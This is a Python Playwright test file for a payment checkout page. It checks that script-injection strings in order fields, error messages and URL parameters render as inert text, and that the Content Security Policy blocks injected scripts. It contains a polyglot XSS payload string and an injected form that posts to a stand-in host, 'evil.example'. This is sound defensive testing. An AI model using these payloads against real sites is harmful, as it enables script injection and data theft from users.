"""Scripts in every field that anyone outside can fill: they are shown as text and never run."""

from typing import Any

import msgspec
import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from helpers_browser import watched
from helpers_checkout import DESK, Site
from helpers_pages import GOOD_CARD, Payer, link_of, pairs_of
from tiyin.gateway.desks.records import AccountField
from tiyin.gateway.receipts.payable import Payable
from tiyin.protocol.errors import RpcError
from tiyin.protocol.values import Text

pytestmark = pytest.mark.browser

ATTACK = "'\"><script>alert(1)</script><img src=x onerror=alert(2)>{{7*7}}&lt;"
TEXT = Text.same(ATTACK)
DETAIL = {
    "items": [
        {
            "title": ATTACK,
            "price": 500_000,
            "count": 2,
            "code": "00702001001000001",
            "package_code": "123456",
            "vat_percent": 12,
        }
    ],
    "shipping": {"title": ATTACK, "price": 1},
}


def dialogs_of(page: Page) -> list[str]:
    """Return the list into which the page's dialogs will be noted."""
    noted: list[str] = []

    def note(dialog: Dialog) -> None:
        noted.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    return noted


def test_scripts_in_every_field_of_the_order_are_text(site: Site, browser: Browser) -> None:
    gateway = site.gateway
    field = AccountField("order_id", TEXT, main=True)
    gateway.desk = msgspec.structs.replace(
        DESK, name=ATTACK, organization=ATTACK + "2", account_fields=(field,)
    )
    gateway.payable = Payable(additional={ATTACK: ATTACK})
    asked: dict[str, Any] = {"account": {"order_id": ATTACK, "phone": ATTACK}, "detail": DETAIL}
    kept = Payer(site.url).post("/", pairs_of(**asked, description=TEXT, lang="en"))
    assert kept.status == 303, kept.text
    with watched(browser, site.url) as seen:
        page = seen.page
        dialogs = dialogs_of(page)
        page.goto(site.url + kept.headers["location"])
        expect(page.locator(".order-merchant strong")).to_have_text(ATTACK)
        expect(page.locator(".order-description")).to_have_text(ATTACK)
        assert page.get_by_text(ATTACK, exact=True).count() >= 6
        page.locator("#number").press_sequentially(GOOD_CARD)
        page.locator("#expire").press_sequentially("0399")
        page.keyboard.press("Enter")
        page.locator("#code").fill("666666")
        page.keyboard.press("Enter")
        expect(page.locator("h1")).to_have_text("Paid")
        expect(page.get_by_text(ATTACK, exact=True).first).to_be_visible()
        gateway.check_error = RpcError(-31610, TEXT, ATTACK)
        page.context.clear_cookies()
        page.goto(site.url + kept.headers["location"])
        expect(page.locator(".said")).to_have_text(f"«{ATTACK}»")
        assert page.locator("main script, main img").count() == 0
        assert seen.strangers == []
    assert dialogs == []


@pytest.mark.parametrize("name", ["lang", "back", "timeout", "card", "nonce", ATTACK])
def test_scripts_in_the_address_are_text(site: Site, browser: Browser, name: str) -> None:
    with watched(browser, site.url) as seen:
        page = seen.page
        dialogs = dialogs_of(page)
        page.goto(link_of(site.url, lang="en"))
        page.evaluate(
            "([n, v]) => location.assign(location.pathname + '?' + new URLSearchParams([[n, v]]))",
            [name, ATTACK],
        )
        expect(page.locator("#number")).to_be_visible()
        assert page.locator("main script, main img").count() == 0
    assert dialogs == []


def test_a_script_that_got_in_all_the_same_does_not_run(site: Site, browser: Browser) -> None:
    """The second wall: were the escaping to fail one day, the policy stops what is not ours."""
    with watched(browser, site.url, strict=False) as seen:
        page = seen.page
        page.goto(link_of(site.url))
        page.evaluate(
            """() => {
                const script = document.createElement("script");
                script.textContent = "window.ran = true";
                document.body.append(script);
                const image = document.createElement("img");
                image.setAttribute("onerror", "window.ran = true");
                image.src = "/nothing.png";
                document.body.append(image);
                const form = document.createElement("form");
                form.action = "https://evil.example/";
                form.method = "post";
                document.body.append(form);
                form.submit();
            }"""
        )
        page.wait_for_timeout(300)
        assert page.evaluate("window.ran") is None
        assert page.url.startswith(site.url)
        assert seen.strangers == []
        assert any("Content Security Policy" in complaint for complaint in seen.complaints)
